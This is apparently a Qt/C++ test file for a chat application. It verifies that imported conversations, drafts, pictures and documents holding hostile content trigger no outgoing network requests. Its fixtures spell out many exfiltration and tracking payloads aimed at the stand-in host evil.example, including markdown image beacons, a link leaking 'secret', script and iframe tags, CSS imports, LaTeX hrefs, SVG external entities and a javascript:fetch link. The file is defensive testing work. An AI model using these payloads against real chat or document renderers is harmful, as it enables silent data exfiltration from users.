#include "tests/app/network_spy.h"
#include "window_scenes.h"

#include <QBuffer>
#include <QImage>
#include <QJsonArray>
#include <QJsonDocument>
#include <QJsonObject>
#include <QQmlExtensionPlugin>
#include <QTcpSocket>
#include <QTemporaryDir>
#include <QUdpSocket>

Q_IMPORT_QML_PLUGIN(RookeryPlugin)

namespace {

/// What leads outside, in every form that a text may give it.
const char *const Hostile[] = {
    "![a picture](https://evil.example/pixel.png) ![](http://10.0.0.1/x.svg \"t\") ![r][r]\n\n[r]: "
    "//evil.example/y.gif",
    "<img src=\"https://evil.example/a.png\"> <link rel=stylesheet href=https://evil.example/a.css> "
    "<script src=https://evil.example/a.js></script> <iframe src=\"https://evil.example\"></iframe> "
    "<video poster=https://evil.example/p.jpg src=https://evil.example/v.mp4></video>",
    "<style>@import url(https://evil.example/s.css); body { background: url(https://evil.example/b.png) }"
    "</style><body background=\"https://evil.example/b.png\"><table background=https://evil.example/t.png>"
    "<tr><td style=\"background-image: url('https://evil.example/c.png')\">x</td></tr></table>",
    "[link](https://evil.example/?q=secret) https://evil.example <https://evil.example> www.evil.example "
    "[file](file:///etc/passwd) [js](javascript:fetch('https://evil.example')) [smb](\\\\evil.example\\x) "
    "[ftp](ftp://evil.example/f)",
    "$\\href{https://evil.example/}{x}$ $\\includegraphics{https://evil.example/p.png}$ "
    "$$\\require{https://evil.example/ext.js} \\unicode[https://evil.example]{x41}$$ "
    "\\(\\style{background: url(https://evil.example/i.png)}{y}\\) "
    "$$\\class{a\" style=\"background:url(https://evil.example/)}{z}$$ $\\input{/etc/passwd}$",
    "```svg\n<svg xmlns=\"http://www.w3.org/2000/svg\" xmlns:xlink=\"http://www.w3.org/1999/xlink\">"
    "<image xlink:href=\"https://evil.example/i.png\"/><use href=\"https://evil.example/u.svg#a\"/>"
    "<style>@import 'https://evil.example/s.css'</style></svg>\n```\n\n```mermaid\nclick A "
    "\"https://evil.example\"\n```",
    "| a | b |\n|---|---|\n| ![x](https://evil.example/t.png) | <img src=//evil.example/u.png> |\n\n> "
    "![q](https://evil.example/q.png)\n\n<think>![t](https://evil.example/t.png)</think>",
};

const char HostileSvg[] =
    "<?xml version=\"1.0\"?><?xml-stylesheet href=\"https://evil.example/s.css\"?>"
    "<!DOCTYPE svg SYSTEM \"https://evil.example/svg.dtd\" [<!ENTITY e SYSTEM \"https://evil.example/e\">]>"
    "<svg xmlns=\"http://www.w3.org/2000/svg\" xmlns:xlink=\"http://www.w3.org/1999/xlink\" width=\"64\" "
    "height=\"64\"><image xlink:href=\"https://evil.example/i.png\" width=\"64\" height=\"64\"/>"
    "<use xlink:href=\"https://evil.example/u.svg#a\"/><rect width=\"9\" height=\"9\" "
    "fill=\"url(https://evil.example/g.svg#g)\"/><text>&e;</text></svg>";

/// A conversation as it is exported, every text of it hostile, with a picture.
QByteArray hostileConversation()
{
    QByteArray png;
    QBuffer buffer(&png);
    QImage picture(8, 8, QImage::Format_RGB32);
    picture.fill(Qt::red);
    picture.setText(QStringLiteral("Source"), QStringLiteral("https://evil.example/p.png"));
    picture.save(&buffer, "PNG");
    const QString hash = rookery::Attachments::hashOf(png);
    const QString name = QStringLiteral("<img src=https://evil.example/name.png>");
    QJsonArray messages;
    int id = 0;
    for (const char *text : Hostile) {
        for (const char *role : {"user", "assistant"}) {
            QJsonObject message{{QStringLiteral("id"), id + 1},
                                {QStringLiteral("parent"), id},
                                {QStringLiteral("role"), QLatin1String(role)},
                                {QStringLiteral("text"), QString::fromUtf8(text)},
                                {QStringLiteral("model"), name},
                                {QStringLiteral("failure"), id % 3 == 2 ? name : QString()},
                                {QStringLiteral("status"), QStringLiteral("complete")}};
            if (id == 0) {
                message[u"attachments"] =
                    QJsonArray{QJsonObject{{QStringLiteral("hash"), hash},
                                           {QStringLiteral("name"), name},
                                           {QStringLiteral("altText"), QString::fromUtf8(Hostile[0])}}};
            }
            messages.append(message);
            ++id;
        }
    }
    return QJsonDocument(QJsonObject{{QStringLiteral("format"), QStringLiteral("rookery.conversation")},
                                     {QStringLiteral("version"), 1},
                                     {QStringLiteral("title"), name},
                                     {QStringLiteral("systemPrompt"), QString::fromUtf8(Hostile[1])},
                                     {QStringLiteral("model"), name},
                                     {QStringLiteral("leaf"), id},
                                     {QStringLiteral("messages"), messages},
                                     {QStringLiteral("files"),
                                      QJsonObject{{hash, QString::fromLatin1(png.toBase64())}}}})
        .toJson();
}

}  // namespace

/// A whole session with hostile content sends nothing anywhere.
class NoRequestsTest : public QObject
{
    Q_OBJECT

private slots:
    void init() { network_spy::clear(); }

    /// Else the others would say nothing.
    void spySeesWhatGoesOut()
    {
        QTcpSocket tcp;
        tcp.connectToHost(QHostAddress(QStringLiteral("127.0.0.1")), 9);
        QVERIFY(!tcp.waitForConnected(1000));
        const qsizetype before = network_spy::tried().size();
        QVERIFY(before > 0);
        QUdpSocket udp;
        udp.writeDatagram("x", QHostAddress(QStringLiteral("127.0.0.1")), 9);
        QVERIFY(network_spy::tried().size() > before);
        network_spy::clear();
        QTcpSocket named;
        named.connectToHost(QStringLiteral("evil.example"), 80);
        QVERIFY(!named.waitForConnected(1000));
        QVERIFY(!network_spy::tried().isEmpty());
    }

    void conversationIsImportedAndRead()
    {
        const QTemporaryDir folder;
        WindowFixture window(folder.path());
        QVERIFY(window.ready());
        window.app.conversations()->importFrom(
            file(folder, QStringLiteral("talk.json"), hostileConversation()));
        ChatController &chat = *window.app.chat();
        QTRY_COMPARE_WITH_TIMEOUT(chat.messages()->rowCount(), 2 * static_cast<int>(std::size(Hostile)),
                                  30000);
        QQuickItem *list = window.item(QStringLiteral("messageList"));
        QVERIFY(list != nullptr);
        for (int row = 0; row < chat.messages()->rowCount(); ++row) {
            QMetaObject::invokeMethod(list, "showRow", Q_ARG(int, row), Q_ARG(double, 0.0));
            QTest::qWait(150);
        }
        hover(window);
        QTest::qWait(2500);  // a formula may take as long
        chat.asking()->regenerateLast();
        QVERIFY(window.waitForAnswer());
        window.app.conversations()->setSearchText(QStringLiteral("evil"));
        QTest::qWait(500);
        window.app.conversations()->copyText(chat.conversationId());
        QCOMPARE(network_spy::tried(), QStringList());
    }

    void draftsPicturesAndDocumentsAreTaken()
    {
        const QTemporaryDir folder;
        WindowFixture window(folder.path());
        QVERIFY(window.ready());
        ChatController &chat = *window.app.chat();
        chat.pictures()->add({file(folder, QStringLiteral("a.svg"), HostileSvg),
                              file(folder, QStringLiteral("b.png"), HostileSvg),
                              QUrl(QStringLiteral("https://evil.example/c.png"))});
        chat.pictures()->addBytes(HostileSvg);
        QTest::qWait(500);
        const QString all =
            QString::fromUtf8(QByteArrayList(std::begin(Hostile), std::end(Hostile)).join("\n\n"));
        chat.setDraft(all);
        QTest::qWait(300);
        window.app.shelf()->add({file(folder, QStringLiteral("a.html"), all.toUtf8()),
                                 file(folder, QStringLiteral("a.md"), all.toUtf8()),
                                 QUrl(QStringLiteral("https://evil.example/c.html"))});
        QVERIFY(WindowHand(window).clickNamed("shelfButton"));
        QTRY_VERIFY_WITH_TIMEOUT(window.app.shelf()->items()->count() >= 2, 30000);
        const ShelfModel &items = *window.app.shelf()->items();
        window.app.shelf()->openText(items.data(items.index(0), ShelfModel::IdRole).toString(), 0);
        QTest::qWait(1000);
        window.app.writing()->importFrom(file(folder, QStringLiteral("b.md"), all.toUtf8()));
        QTest::qWait(500);
        window.app.personas()->keep(QStringLiteral("<img src=https://evil.example/a.png>"),
                                    QStringLiteral("https://evil.example/a.png"), all, {}, {});
        QTest::qWait(300);
        QCOMPARE(network_spy::tried(), QStringList());
    }

    /// What could be fetched is fetched when a button of that says so, and not before.
    void everyPageIsOpened_data()
    {
        QTest::addColumn<int>("scene");
        for (std::size_t i = 0; i < AllScenes.size(); ++i) {
            QTest::newRow(AllScenes[i].name) << static_cast<int>(i);
        }
    }
    void everyPageIsOpened()
    {
        QFETCH(int, scene);
        const WindowScene &shown = AllScenes[static_cast<std::size_t>(scene)];
        if (shown.show == scenes::answerWith) {
            QSKIP("asks a server, as its user does there");
        }
        const QTemporaryDir folder;
        WindowFixture window(folder.path());
        QVERIFY(window.ready());
        QVERIFY(shown.show(window));
        QTest::qWait(300);
        window.app.chat()->asking()->stop();
        QCOMPARE(network_spy::tried(), QStringList());
    }

private:
    static QUrl file(const QTemporaryDir &folder, const QString &name, const QByteArray &bytes)
    {
        QFile written(folder.filePath(name));
        if (!written.open(QIODevice::WriteOnly) || written.write(bytes) != bytes.size()) {
            qWarning("%s can't be written", qPrintable(name));
        }
        return QUrl::fromLocalFile(written.fileName());
    }

    /// The pointer goes over all of the window, for tips and links.
    static void hover(const WindowFixture &window)
    {
        const QSize size = window.window()->size();
        for (int y = 10; y < size.height(); y += 40) {
            for (int x = 10; x < size.width(); x += 120) {
                QTest::mouseMove(window.window(), {x, y});
            }
        }
    }
};

QTEST_MAIN(NoRequestsTest)
#include "tst_no_requests.moc"
